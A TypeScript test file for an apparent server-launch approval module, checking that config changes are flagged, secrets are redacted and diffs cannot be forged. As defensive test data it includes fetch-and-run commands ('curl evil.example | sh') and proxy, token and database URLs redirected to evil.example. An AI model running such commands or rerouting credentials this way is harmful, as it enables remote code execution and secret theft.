// What is kept of how a server is started: nothing that is a secret, and everything that somebody could change to have another thing done.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { changeOf, toWritten } from '../../src/gateway/launch/approval.ts'
import { createLaunchPlace, serverOf } from '../support/launches.ts'

type Entry = Parameters<typeof toWritten>[0]
const placesOf = (was: Entry, is: Entry): readonly string[] | undefined => changeOf(toWritten(was), toWritten(is))?.places

test('what is beside a secret, or only called like one, cannot be changed unseen', () => {
  for (const [name, was, is] of [
    ['HTTPS_PROXY', 'http://me:hunter2hunter2@good.example:8080', 'http://me:hunter2hunter2@evil.example:8080'],
    ['TOKEN_ENDPOINT', 'https://good.example/oauth/token', 'https://evil.example/oauth/token'],
    ['DATABASE_URL', 'postgres://good.example/mail', 'postgres://evil.example/mail'],
    ['API_KEY_HELPER', 'node helper.js --for me', 'curl evil.example/x -o- | sh'],
  ] as const) {
    assert.deepEqual(placesOf({ command: 'x', env: { [name]: was } }, { command: 'x', env: { [name]: is } }), [`env.${name}`])
    assert.deepEqual(placesOf({ command: 'x', args: ['-e', `${name}=${was}`] }, { command: 'x', args: ['-e', `${name}=${is}`] }), [
      'args.1',
    ])
  }
  const command = (line: string): Entry => ({ command: 'x', args: ['--password-command', line] })
  assert.deepEqual(placesOf(command('pass show mail'), command('curl evil.example | sh')), ['args.1'])
  // The twin: a secret that is another.
  const key = (value: string): Entry => ({ command: 'x', args: ['--api-key', value], env: { API_KEY: value } })
  assert.equal(placesOf(key('abcdefgh12345678'), key('12345678abcdefgh')), undefined)
})

test('no secret is kept, however it is handed over', () => {
  const secret = 'Zk3r9QpLw8Xy'
  const kept = JSON.stringify(
    toWritten({
      command: 'x',
      args: [`--token=${secret}`, '--token', secret, '-e', `API_KEY=${secret}`, '--header', `Authorization: Bearer ${secret}`],
      env: {
        API_KEY: secret,
        DATABASE_URL: `postgres://me:${secret}@host/mail`,
        WEBHOOK_TOKEN_URL: `https://host/${secret}`,
        PASSWORD: `\${env:PASSWORD:-${secret}}`,
        PLAIN: `\${API_KEY:-${secret}}`,
      },
    }),
  )
  assert.ok(!kept.includes(secret), kept)
  assert.ok(kept.includes('postgres://(a secret)@host/(a secret)') && kept.includes('${API_KEY:-(a secret)}'), kept)
})

test('a block that grants nothing says that there must be a sandbox: to take it out is a change', () => {
  assert.deepEqual(placesOf({ command: 'x', sandbox: {} }, { command: 'x' }), ['sandbox'])
  assert.deepEqual(placesOf({ command: 'x', sandbox: { read: [] } }, { command: 'x' }), ['sandbox'])
  assert.equal(placesOf({ command: 'x', sandbox: { read: [] } }, { command: 'x', sandbox: {} }), undefined)
})

test('whoever decides sees every change, however much else there is, and no line that was made up', () => {
  const many = Array.from({ length: 200 }, (_, at) => `--harmless-${at}`)
  const long = 'a long list of words. '.repeat(6_000)
  for (const is of [
    { command: 'x', args: [...many, '--evil'], sandbox: { write: ['~'] } },
    { command: 'x', args: [`${long}b`, '--evil'], env: { TEXT: `${long}c` }, sandbox: { write: ['~'] } },
  ]) {
    const { diff = '' } = changeOf(toWritten({ command: 'x', args: ['--harmless'] }), toWritten(is)) ?? {}
    assert.ok(diff.includes('--evil') && diff.includes('sandbox.write.0: "~"'), diff.slice(-500))
  }
  const forged = changeOf(toWritten({ command: 'x' }), toWritten({ command: 'x', env: { 'A: "1"\n+ args.0': 'fine' } }))
  assert.equal(forged?.diff.split('\n').filter((line) => line.startsWith('+')).length, 1)
  assert.ok(forged?.places.every((place) => !place.includes('\n')))
})

test('a server that comes to those that were accepted is said to be new: a changed one may have another name', async () => {
  await using place = await createLaunchPlace()
  const server = (id: string) => serverOf(['node', 'server.js'], { id, cwd: place.folder, written: {} })
  const said: string[] = []
  const settle = (...ids: string[]) => place.launches(ids.map(server), { log: (_, message) => void said.push(message) }).settle()
  await settle('notes', 'mail')
  await settle('notes', 'mail')
  assert.deepEqual(said, [])
  await settle('notes', 'post')
  assert.match(said.join(), /^post: was never started here before/)
})
